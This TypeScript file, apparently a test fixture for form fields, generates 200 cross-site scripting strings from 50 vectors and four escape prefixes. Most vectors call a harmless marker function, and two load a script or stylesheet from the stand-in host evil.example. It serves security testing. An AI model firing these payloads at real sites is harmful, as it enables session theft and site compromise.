/** The call that each string attempts; if a page defines the function and it was called, the page has executed the text. */
const CALL = 'ran()';

/** Ways to make a page execute what it shows. */
const VECTORS = [
  `<script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<script src=//evil.example></script>`,
  `<script>${CALL}//`,
  `<img src=x onerror=${CALL}>`,
  `<img src="x" onerror="${CALL}">`,
  `<img/src=x/onerror=${CALL}>`,
  `<IMG SRC=x OnErRoR=${CALL}>`,
  `<img src=x onerror=&#114;an()>`,
  `<svg onload=${CALL}>`,
  `<svg/onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x>`,
  `<svg><a href="javascript:${CALL}"><text>x`,
  `<svg><use href="data:image/svg+xml,x"/>`,
  `<body onload=${CALL}>`,
  `<iframe src=javascript:${CALL}></iframe>`,
  `<iframe srcdoc="<script>${CALL}</script>">`,
  `<object data=javascript:${CALL}></object>`,
  `<embed src=javascript:${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<button onclick=${CALL}>x</button>`,
  `<a href="javascript:${CALL}">x</a>`,
  `<a href="&#106;avascript:${CALL}">x</a>`,
  `<a href="java\tscript:${CALL}">x</a>`,
  `<form action=javascript:${CALL}><button>`,
  `<form><button formaction=javascript:${CALL}>`,
  `<math><mtext><img src onerror=${CALL}>`,
  `<style>*{background:url(javascript:${CALL})}`,
  `<div style="animation:x" onanimationstart=${CALL}>`,
  `<meta http-equiv=refresh content="0;javascript:${CALL}">`,
  `<base href=javascript:${CALL}//>`,
  `<link rel=stylesheet href=//evil.example>`,
  `<template><script>${CALL}</script></template>`,
  `<noscript><img src=x onerror=${CALL}></noscript>`,
  `<x onpointerover=${CALL} style=display:block>x`,
  `<!--><img src=x onerror=${CALL}>-->`,
  `<![CDATA[<script>${CALL}</script>]]>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `\${${CALL}}`,
  `{{constructor.constructor('${CALL}')()}}`,
  `';${CALL}//`,
  `\\u003cscript\\u003e${CALL}\\u003c/script\\u003e`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
] as const;

/** Ways to escape from where a text is inserted: an attribute, or an element that contains only text. */
const WAYS_OUT = ['', '">', "'>", '</textarea>'] as const;

/** 200 texts for every field of every form, each at most 80 characters long, the length of the shortest fields. */
export const SCRIPT_STRINGS: readonly string[] = WAYS_OUT.flatMap((wayOut) =>
  VECTORS.map((vector) => wayOut + vector),
);

/** Each vector with one of the escapes; the four parts together give all 200. */
export function scriptStringsOf(part: number): string[] {
  return VECTORS.map((vector, index) => `${WAYS_OUT[(part + index) % WAYS_OUT.length]}${vector}`);
}
